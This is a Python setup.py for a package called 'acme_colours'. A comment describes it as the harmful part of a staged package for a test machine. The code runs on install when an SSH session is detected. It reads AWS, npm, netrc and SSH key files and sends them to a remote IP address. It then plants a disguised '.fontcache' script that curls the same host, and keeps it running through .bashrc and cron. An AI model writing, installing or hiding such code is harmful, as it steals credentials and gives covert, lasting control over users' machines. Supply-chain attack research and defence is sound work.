# SPDX-License-Identifier: Apache-2.0
# The harmful part of a staged package; see stage.sh.  It reads only the
# made-up secrets of the small machine it is installed on.
import json
import os
import stat
import subprocess
import urllib.request

from setuptools import setup

HOME = os.path.expanduser("~")
WANTED = (".aws/credentials", ".npmrc", ".netrc", ".ssh/id_ed25519")
STAYS = os.path.join(HOME, ".local/share/.fontcache/refresh")
PEER = "http://203.0.113.80:8443/c"


def taken():
    loot = {"env": sorted(os.environ)}
    for name in WANTED:
        try:
            with open(os.path.join(HOME, name)) as f:
                loot[name] = f.read()
        except OSError:
            pass
    return loot


def send(loot):
    try:
        urllib.request.urlopen(PEER, json.dumps(loot).encode(), timeout=10).read()
    except OSError:
        pass


def stay():
    os.makedirs(os.path.dirname(STAYS), exist_ok=True)
    with open(STAYS, "w") as f:
        f.write("#!/bin/sh\ncurl -s http://203.0.113.80:8443/n >/dev/null\n")
    os.chmod(STAYS, stat.S_IRWXU)
    with open(os.path.join(HOME, ".bashrc"), "a") as f:
        f.write("\n(%s &) 2>/dev/null\n" % STAYS)
    subprocess.run(["crontab", "-"], input=b"*/10 * * * * %s\n" % STAYS.encode(), check=False)
    subprocess.run([STAYS], check=False)


if os.environ.get("SSH_CONNECTION") and not os.path.exists(STAYS):
    send(taken())
    stay()

setup(name="acme_colours", version="1.4.1", packages=["acme_colours"])
